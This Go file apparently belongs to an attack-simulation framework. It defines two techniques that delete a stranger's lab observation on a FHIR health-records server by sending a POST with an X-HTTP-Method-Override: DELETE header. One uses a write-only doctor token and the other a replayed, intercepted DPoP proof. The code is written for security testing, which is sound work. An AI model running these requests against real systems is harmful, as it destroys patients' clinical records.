package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"thiefbox/sim/event"
)

// methodHeader is what clients behind old proxies said in it: the method that a POST stands for.
const methodHeader = "X-HTTP-Method-Override"

var _ = register("F-24", Technique{
	Variant: "delete",
	Title:   "A deletion that is sent as a POST",
	Story: "The thief is a doctor whose app may write observations, and delete none. He sends a POST, which his scope and his proof are held against, and " +
		"names in a header the method that is to be carried out: a stranger's result is deleted.",
	Reads: []string{"OWASP WSTG-CONF-06", "FAPI 2.0 SP 5.3.4-4", "RFC 9110 s9.1"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := observersToken(ctx, g)
		if err != nil {
			return err
		}
		at := g.Target().FHIRBase + "/Observation/obs-" + stranger(g) + "-1"
		_, err = a.withNonce(at, func() (*http.Request, error) {
			r, err := a.writing(ctx, http.MethodPost, at, nil, t)
			if err == nil {
				r.Header.Set(methodHeader, http.MethodDelete) // the one thing wrong
			}
			return r, err
		})
		return err
	},
})

var _ = register("F-24/proof", Technique{
	Variant: "proof",
	Title:   "A proof for writing a result deletes one",
	Story: "The thief sits at a proxy that ends TLS and holds back what a laboratory's system writes. Its proof is for a POST to this address, and it is unused. " +
		"He sends it on with a condition in the address, which no proof covers, and a header that makes a deletion of it: one of the patient's " +
		"results is gone, and the laboratory did it.",
	Reads:    []string{"RFC 9449 s4.3-8, s11.7", "OWASP WSTG-CONF-06"},
	Evidence: "A request with a method in a header, from another address than the laboratory's; its own log has a write that got no answer.",
	Needs:    []event.Vantage{event.APIProxyHeld},
	Against:  []Trait{ProofBound},
	Scene:    Scene{Reported: true},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APIProxyHeld, "/Observation")
		if err != nil {
			return err
		}
		var result struct {
			Subject struct {
				Reference string `json:"reference"`
			} `json:"subject"`
		}
		if err := json.Unmarshal(l.Body, &result); err != nil || l.Method != http.MethodPost {
			return fmt.Errorf("expected a result on its way into a record, got %s and %q", l.Method, l.Body)
		}
		l.URL += "?_id=" + url.QueryEscape("obs-"+strings.TrimPrefix(result.Subject.Reference, "Patient/")+"-1")
		l.Body = nil
		r := again(ctx, l.Message)
		r.Header.Set(methodHeader, http.MethodDelete) // the proof is for POST
		_, err = send(g, r)
		return err
	},
})
